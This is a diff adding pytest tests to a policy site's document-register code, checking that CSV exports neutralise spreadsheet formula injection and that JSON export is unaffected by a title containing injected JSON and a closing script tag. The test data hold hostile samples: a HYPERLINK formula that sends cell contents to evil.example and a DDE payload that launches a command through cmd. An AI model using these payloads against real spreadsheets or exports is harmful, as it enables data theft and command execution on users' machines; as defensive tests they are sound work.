@@ -1,6 +1,7 @@
 """The document register page and its CSV/JSON exports agree with the front matter, in both languages."""
 
 import csv
+import io
 import json
 
 import pytest
@@ -11,6 +12,7 @@ from policysite.corpus import load_corpus
 from policysite.data import load_roles
 from policysite.editions import edition_corpus
 from policysite.model import LANGUAGES
+from policysite.register import RegisterRow, to_csv, to_json
 
 
 @pytest.fixture(scope="module")
@@ -47,3 +49,33 @@ def test_register_page_shows_the_policy_row(site):
     for text in ("Security policy", "Approved", "Regional Council", "November 2018", "not recorded"):
         assert text in row
     assert 'href="documents.csv"' in english and 'href="documents.json"' in english
+
+
+# --- Spreadsheet formulas (OWASP "CSV Injection") ---------------------------------------------------------------
+
+def _row(title: str) -> RegisterRow:
+    return RegisterRow(id="SAK-INF-900", title=title, path="x.md", type="information", status="approved",
+                       version="1.0", owner="sakerhetschef", approved_by=None, approved=None, next_review=None,
+                       review_overdue=False, translation_stale=False, classification="public")
+
+
+@pytest.mark.parametrize("title, cell", [
+    ('=HYPERLINK("https://evil.example/?"&A1,"Klicka")', '\'=HYPERLINK("https://evil.example/?"&A1,"Klicka")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1,2)", "'@SUM(1,2)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("Rutin för besök & \"gäster\", del 1", "Rutin för besök & \"gäster\", del 1"),
+])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text(title, cell):
+    text = to_csv([_row(title)])
+    assert text.splitlines()[0].startswith('"id","title",')
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["title"] == cell
+    assert rows[0]["approved"] == ""
+
+
+def test_the_json_export_is_json_whatever_the_title():
+    title = '"}, {"id": "x", </script>'
+    assert json.loads(to_json([_row(title)], "sv"))["documents"][0]["title"] == title
